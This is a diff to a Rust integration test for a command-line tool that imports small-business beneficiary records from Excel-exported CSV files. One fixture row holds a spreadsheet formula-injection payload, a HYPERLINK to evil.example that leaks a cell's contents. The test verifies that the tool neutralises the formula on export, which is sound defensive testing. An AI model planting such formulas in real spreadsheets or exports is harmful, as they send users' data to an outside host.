@@ -84,12 +84,7 @@ async fn an_import_keeps_good_rows_and_names_each_bad_one() {
             .collect();
         assert_eq!(
             where_why,
-            [
-                "6,nib",
-                "6,scale",
-                "7,nik_koperasi",
-                "7,legal_entity_number"
-            ],
+            ["6,nib; scale", "7,nik_koperasi; legal_entity_number"],
             "{}: {refused}",
             t.name
         );
@@ -101,6 +96,112 @@ async fn an_import_keeps_good_rows_and_names_each_bad_one() {
             t.name,
             text(&again)
         );
+    }
+}
+
+/// As Excel in an Indonesian locale saves it: `;`, Windows-1252, CRLF,
+/// decimal commas, `18.1` for `18.10`; then a short row, a long row, and a
+/// name that is a formula with its owner's NIK in scientific notation.
+const EXCEL_ID: &[u8] = b"kind;region_code;name;nib;owner_nik;scale;lat;lon\r\n\
+umkm;18.71;Kopi Ren\xe9 M\xfcller;9120001234511;1871014508900001;mikro;-5,4292;105,2619\r\n\
+umkm;18.1;Toko Pringsewu;9120001234512;1871014508900001;kecil;;\r\n\
+umkm;18.71;Warung Pendek;9120001234513\r\n\
+umkm;18.71;Warung Panjang;9120001234514;1871014508900001;mikro;;;lebih\r\n\
+umkm;18.71;\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"klik\"\")\";9120001234515;1,87101E+15;mikro;;\r\n";
+
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klik\")";
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_import_reads_an_excel_file_and_its_refused_rows_mended() {
+    for t in db::test_databases().await {
+        let name = t.name;
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("umkm.csv");
+        std::fs::write(&file, EXCEL_ID).unwrap();
+        let out = run(&t.url, &["import", "beneficiaries", file.to_str().unwrap()]);
+        let said = text(&out);
+        assert_eq!(out.status.code(), Some(1), "{name}: {said}");
+        assert!(
+            said.contains("5 rows read: 2 new, 0 already registered, 3 refused"),
+            "{name}: {said}"
+        );
+        for line in [
+            "umkm.csv: line 4, column owner_nik: baris ini hanya 4 kolom, judulnya 8",
+            "umkm.csv: line 5, column #9: baris ini 9 kolom, judulnya hanya 8",
+            "umkm.csv: line 6, column owner_nik: `1,87101E+15`: Excel mengubah angka panjang",
+        ] {
+            assert!(said.contains(line), "{name}: {line} in {said}");
+        }
+        let kept = query(
+            &t.url,
+            "SELECT name, region_code FROM beneficiaries WHERE nib IN ('9120001234511', '9120001234512') ORDER BY nib",
+        )
+        .await;
+        assert_eq!(
+            kept,
+            [
+                ("Kopi René Müller".to_string(), "18.71".to_string()),
+                ("Toko Pringsewu".to_string(), "18.10".to_string())
+            ],
+            "{name}"
+        );
+
+        // The refused rows, for a spreadsheet: each once, the formula made text.
+        let refused_path = dir.path().join("umkm.refused.csv");
+        let refused = std::fs::read_to_string(&refused_path).unwrap();
+        assert!(
+            refused.starts_with("\u{feff}line,column,reason,kind,region_code,name,"),
+            "{refused}"
+        );
+        assert_eq!(refused.lines().count(), 4, "{refused}");
+        assert!(refused.contains(",\"'=HYPERLINK("), "{refused}");
+
+        // Mended (the NIK typed again) and imported as it is: the formula-like
+        // name is the name it was; the short and the long row are refused again.
+        std::fs::write(
+            &refused_path,
+            refused.replace("1,87101E+15", "1871014508900001"),
+        )
+        .unwrap();
+        let again = run(
+            &t.url,
+            &["import", "beneficiaries", refused_path.to_str().unwrap()],
+        );
+        assert!(
+            text(&again).contains("3 rows read: 1 new, 0 already registered, 2 refused"),
+            "{name}: {}",
+            text(&again)
+        );
+        let mended = query(
+            &t.url,
+            "SELECT name, owner_nik FROM beneficiaries WHERE nib = '9120001234515'",
+        )
+        .await;
+        assert_eq!(
+            mended,
+            [(FORMULA.to_string(), "1871014508900001".to_string())],
+            "{name}"
+        );
+
+        // A file in no encoding Excel writes: one line, nothing kept.
+        let garbled = dir.path().join("garbled.csv");
+        std::fs::write(
+            &garbled,
+            b"kind,region_code,name\numkm,18.71,\x81\x8d\xe9\n",
+        )
+        .unwrap();
+        let out = run(
+            &t.url,
+            &["import", "beneficiaries", garbled.to_str().unwrap()],
+        );
+        let said = String::from_utf8_lossy(&out.stderr).to_string();
+        assert_eq!(out.status.code(), Some(1), "{name}: {said}");
+        assert_eq!(said.lines().count(), 1, "{name}: {said}");
+        assert!(
+            said.contains("garbled.csv: ") && said.contains("CSV UTF-8"),
+            "{said}"
+        );
+        assert!(!dir.path().join("garbled.refused.csv").exists());
     }
 }
 
